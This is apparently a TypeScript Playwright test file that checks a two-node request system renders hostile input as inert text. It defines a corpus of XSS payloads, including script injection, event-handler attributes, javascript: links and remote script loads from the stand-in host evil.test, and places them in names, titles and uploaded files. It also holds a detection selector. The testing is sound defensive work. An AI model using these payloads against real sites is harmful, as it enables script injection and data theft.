import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { chromium, type Browser as Chromium, type Page } from "playwright-core";
import type { RequestList } from "@setu/requests";
import { EVERYTHING } from "@setu/server/access/everything.fixture.ts";
import { twoNodes, until, type TwoNodes } from "@setu/server/node/two-nodes.fixture.ts";
import { saveOfficers } from "@setu/server/node/officers.ts";
import { WEB } from "../../cli/src/start.ts";
import { chromiumPath } from "../../tools/chromium.ts";
import { visitNode, type Visit } from "../../web/test/page.fixture.ts";
import { ask, officer, upload, view } from "./journey.fixture.ts";

/**
 * What the other side may write stands on our screens as the letters that it is: in a real browser, on real nodes, with
 * the policy that is really sent. Had any of it run, the mark would be set, a stranger called, or a violation reported.
 */
const RUN = `taken=1,document.title='taken'`;
const CORPUS = [
  `"'></p></bdi></title></textarea></style><script>${RUN};fetch('//evil.test')</script>`,
  `<img src=x onerror="${RUN}"><svg onload="${RUN}"><details open ontoggle="${RUN}">`,
  `"autofocus tabindex=0 onfocus="${RUN}" style="background:url(//evil.test)`,
  `javascript:${RUN}//<a href="javascript:${RUN}">open</a>`,
  `</script><script src=//evil.test/x.js></script><link rel=stylesheet href=//evil.test>`,
  `<iframe srcdoc="<script>parent.taken=1</script>"></iframe><meta http-equiv=refresh content="0;//evil.test">`,
  `</0></1><0>x</0><1/><base href=//evil.test><form action=//evil.test><input autofocus onfocus="${RUN}">`,
  `{ {constructor.constructor("${RUN}")()} }\${${RUN}}<!--#exec--><math><mtext><style><img onerror="${RUN}" src>`,
] as const;
// Tags of the messages into which names are put, too.
const NAME = `</0></1><0/><1>x</1><b onclick=1>Officer</b><img src=x onerror="window.taken=1">`;
const AGENCY = `<svg onload="window.taken=1">agency`;
const PLACE = `<script>window.taken=1</script>`;
const FILE = `<!doctype html><title>taken</title><script>${RUN}</script><body onload="${RUN}">words of a page</body>`;

/** Stands in every page from its first moment. */
const WATCH = `window.violations = [];
  addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));`;
const STATE = `({
  taken: window.taken ?? null,
  violations: window.violations,
  titled: document.title === "taken",
  strange: [...document.querySelectorAll("iframe, object, embed, base, main img, math, meta[http-equiv=refresh]," +
    "[onerror], [onload], [onfocus], [onclick], [ontoggle], a[href^='javascript'], script:not([src^='/'])")]
    .map((each) => each.outerHTML.slice(0, 100)),
})`;
const QUIET = { taken: null, violations: [], titled: false, strange: [] };

let nodes: TwoNodes;
let browser: Chromium;
const items: string[] = [];
before(async () => {
  nodes = await twoNodes(undefined, { name: { en: PLACE, fr: PLACE, hi: PLACE } }, WEB);
  browser = await chromium.launch(await chromiumPath());
  const hostile = { id: "in.officer-1", name: NAME, agency: AGENCY, lang: "en", ...EVERYTHING } as const;
  await saveOfficers(nodes.in.store, [hostile]);
  const delhi = await officer(nodes.in.url, hostile.id);
  for (const payload of CORPUS) {
    const file = await upload(delhi, payload, FILE);
    const translations = [{ lang: "fr", text: payload, how: "machine", by: payload }] as const;
    const body = { title: payload, text: payload, lang: "en", translations } as const;
    const asked = ask({ args: { ...ask().args, calendar: "ca-2026.1" } as never, body, files: [file.id] });
    items.push((await delhi.post<{ item: string }>("/api/requests", { command: asked })).item);
  }
  const ottawa = await officer(nodes.ca.url, "ca.officer-1");
  const inbox = () => ottawa.get<RequestList>("/api/requests?view=inbox");
  await until("the requests", inbox, ({ rows }) => rows.length === CORPUS.length);
  const wholeFiles = async () =>
    (await Promise.all(items.map((item) => view(ottawa, item)))).flatMap(({ timeline }) =>
      timeline.flatMap(({ attachments }) => attachments.map(({ parts }) => parts.have === parts.all)),
    );
  await until("the files", wholeFiles, (whole) => whole.length === items.length && whole.every(Boolean));
});
after(async () => {
  await browser?.close();
  await nodes?.close();
});

async function enter(): Promise<Visit & { readonly asked: string[] }> {
  const seen = await visitNode(browser, nodes.ca.url, "en");
  const asked: string[] = [];
  seen.page.on("dialog", (dialog) => {
    asked.push(dialog.message());
    void dialog.dismiss();
  });
  await seen.page.addInitScript(WATCH);
  await seen.page.goto(nodes.ca.url);
  await seen.page.locator(".accounts button").first().click();
  await seen.page.locator("table.requests").waitFor();
  return { ...seen, asked };
}

/** The page has settled with the words in sight, and nothing of them is more than words. */
async function assertQuiet(page: Page, words: string): Promise<void> {
  await page.getByText(words).first().waitFor({ state: "attached" });
  assert.deepEqual(await page.evaluate(STATE), QUIET, `${page.url()} with ${words}`);
}
const at = (path: string) => `${nodes.ca.url}${path}`;

test("abuse 19: what the other side wrote is letters on every screen", async () => {
  const { page, complaints, strangers, asked } = await enter();
  for (const path of ["/", "/search?q=taken", "/link"]) {
    await page.goto(at(path));
    await assertQuiet(page, path === "/link" ? PLACE : CORPUS[0]);
  }
  for (const [n, payload] of CORPUS.entries()) {
    await page.goto(at(`/requests/${encodeURIComponent(items[n]!)}`));
    await page.locator(".timeline .act").first().waitFor();
    for (const words of [payload, NAME, AGENCY]) await assertQuiet(page, words);
    // It ends where the name ends, whatever the name says of the message that it stands in.
    const look = page.getByRole("button", { name: /^Look at/ }).first();
    assert.equal(await look.locator("bdi").textContent(), payload);
    assert.equal(await look.textContent(), `Look at ${payload}`);
  }
  await page.goto(at(`/search?q=${encodeURIComponent(CORPUS[0])}`));
  await page.locator("main h1").waitFor();
  assert.deepEqual(await page.evaluate(STATE), QUIET);
  assert.deepEqual({ complaints, strangers, asked }, { complaints: [], strangers: [], asked: [] });
  await page.context().close();
});

test("abuse 19: and a file of theirs, looked at, is letters as well", async () => {
  const { page, complaints, strangers, asked } = await enter();
  await page.goto(at(`/requests/${encodeURIComponent(items[1]!)}`));
  await page
    .getByRole("button", { name: /^Look at/ })
    .first()
    .click();
  await page.getByText("words of a page").first().waitFor();
  await assertQuiet(page, CORPUS[1]);
  assert.deepEqual({ complaints, strangers, asked }, { complaints: [], strangers: [], asked: [] });
  await page.context().close();
});

test("abuse 19: what the other side wrote is letters on every page without a script", async () => {
  const { page, complaints, strangers, asked } = await enter();
  for (const path of ["/read/inbox", "/read/all", "/read/search?q=taken", "/read/notices"]) {
    await page.goto(at(path));
    await assertQuiet(page, path === "/read/notices" ? PLACE : CORPUS[0]);
  }
  for (const [n, payload] of CORPUS.entries()) {
    await page.goto(at(`/read/requests/${encodeURIComponent(items[n]!)}`));
    for (const words of [payload, NAME, AGENCY]) await assertQuiet(page, words);
    await page.getByRole("link", { name: "Evidence manifest" }).first().click();
    await page.getByRole("heading", { name: "Chain of custody" }).waitFor();
    await assertQuiet(page, payload);
    assert.match((await page.locator(".custody").textContent()) ?? "", /sent.*opened/);
    for (const path of ["search?q=", "requests/"]) {
      await page.goto(at(`/read/${path}${encodeURIComponent(payload)}`));
      assert.deepEqual(await page.evaluate(STATE), QUIET, `${path} of ${payload}`);
    }
  }
  assert.deepEqual({ complaints, strangers, asked }, { complaints: [], strangers: [], asked: [] });
  await page.context().close();
});

test("abuse 19: the watch sees what does run", async () => {
  const { page } = await enter();
  await page.evaluate(
    `document.querySelector("main").insertAdjacentHTML("beforeend", ${JSON.stringify(CORPUS[1])})`,
  );
  const violated = () => page.evaluate<number>("window.violations.length");
  await until("a violation", violated, (count) => count > 0);
  const seen = await page.evaluate<{ violations: string[]; strange: string[] }>(STATE);
  assert.ok(seen.violations.length > 0 && seen.strange.length > 0);
  await page.context().close();
});
